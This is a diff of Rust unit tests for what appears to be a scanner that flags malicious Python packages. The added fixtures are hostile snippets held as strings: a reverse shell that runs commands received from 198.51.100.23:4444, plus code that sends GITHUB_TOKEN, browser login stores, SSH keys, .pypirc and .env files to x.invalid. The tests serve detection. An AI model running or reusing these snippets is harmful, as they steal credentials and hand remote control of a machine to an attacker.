@@ -1092,6 +1092,11 @@ mod tests {
         // The machine's own service, or a host the caller gives, is no one else's shell.
         let local = shell.replace("198.51.100.23", "127.0.0.1");
         assert!(max_severity("p/pkg/net.py", &local, "WH200") < 0.5);
+        // A host nobody passes is the parameter's default.
+        let default = "import socket, subprocess\ndef connect(host='198.51.100.23', port=4444):\n    s = socket.socket()\n    s.connect((host, port))\n    cmd = s.recv(1024).decode()\n    subprocess.run(cmd, shell=True)\n";
+        assert!(max_severity("p/pkg/net.py", default, "WH200") >= 0.8);
+        let local_default = default.replace("198.51.100.23", "localhost");
+        assert!(max_severity("p/pkg/net.py", &local_default, "WH200") < 0.5);
         let given = "import socket, subprocess\ndef serve(host, port):\n    s = socket.create_connection((host, port))\n    cmd = s.recv(1024).decode()\n    subprocess.run(cmd, shell=True)\n";
         assert!(max_severity("p/pkg/net.py", given, "WH200") < 0.5);
         // A program the code chose, given the received value as one argument, is no shell.
@@ -1221,11 +1226,38 @@ mod tests {
     }
 
     #[test]
+    fn what_a_helper_returns_for_one_call_is_what_that_call_holds() {
+        let named = "import os, requests\ndef read(n):\n    v = os.environ.get(n)\n    return v\nTOKEN = read('GITHUB_TOKEN')\nrequests.post('https://x.invalid/u', json={'t': TOKEN})\n";
+        assert!(max_severity("p-1/pkg/__init__.py", named, "WH200") >= 0.8);
+        // `*names` takes the call's extra arguments, one by one in its loop.
+        let first = "import os, requests\ndef first(*names):\n    for n in names:\n        v = os.environ.get(n)\n        if v:\n            return v\nTOKEN = first('GITHUB_TOKEN', 'GH_TOKEN')\nrequests.post('https://x.invalid/u', json={'t': TOKEN})\n";
+        assert!(max_severity("p-1/pkg/__init__.py", first, "WH200") >= 0.8);
+        // A helper that only reshapes the name it is given returns no data.
+        let shaped = "import requests\ndef key(n):\n    return n.upper()\nK = key('github_token')\nrequests.post('https://x.invalid/u', json={'k': K})\n";
+        assert_eq!(max_severity("p-1/pkg/__init__.py", shaped, "WH200"), 0.0);
+    }
+
+    #[test]
     fn listed_or_tested_browser_file_names_name_the_store_they_are_joined_to() {
         let listed = "import os, glob, requests\nfor prof in glob.glob(os.path.join(os.getenv('APPDATA', ''), 'Mozilla', 'Firefox', 'Profiles', '*')):\n    for name in ('logins.json', 'key4.db'):\n        requests.post('https://x.invalid/u', data=open(os.path.join(prof, name), 'rb').read())\n";
         assert!(max_severity("p-1/pkg/__init__.py", listed, "WH200") >= 0.85);
         let tested = "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~/.config/google-chrome/Default')):\n    for f in files:\n        if f in ('Cookies', 'Login Data'):\n            requests.post('https://x.invalid/u', data=open(os.path.join(root, f), 'rb').read())\n";
         assert!(max_severity("p-1/pkg/__init__.py", tested, "WH200") >= 0.85);
+        // Picked by one name, or by how the name ends.
+        let equal = tested.replace(
+            "if f in ('Cookies', 'Login Data'):",
+            "if f == 'Login Data':",
+        );
+        assert!(max_severity("p-1/pkg/__init__.py", &equal, "WH200") >= 0.85);
+        let ending = "import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        if f.endswith(('id_rsa', '.pypirc')):\n            requests.post('https://x.invalid/u', data=open(os.path.join(root, f)).read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", ending, "WH200") >= 0.85);
+        // Dotenv files count only when picked out by name, as a disk search does.
+        let dotenv = ending.replace("('id_rsa', '.pypirc')", "'.env'");
+        assert!(max_severity("p-1/pkg/__init__.py", &dotenv, "WH200") >= 0.85);
+        let config = "import os, requests\nfor name in ('.env', 'settings.toml'):\n    requests.post('https://x.invalid/u', data=open(name).read())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", config, "WH200") < 0.5);
+        let suffix = ending.replace("('id_rsa', '.pypirc')", "'.py'");
+        assert!(max_severity("p-1/pkg/__init__.py", &suffix, "WH200") < 0.5);
         let settings = "import os, requests\nfor name in ('settings.json', 'cookies'):\n    requests.post('https://x.invalid/u', data=open(os.path.join('conf', name)).read())\n";
         assert!(max_severity("p-1/pkg/__init__.py", settings, "WH200") < 0.5);
     }
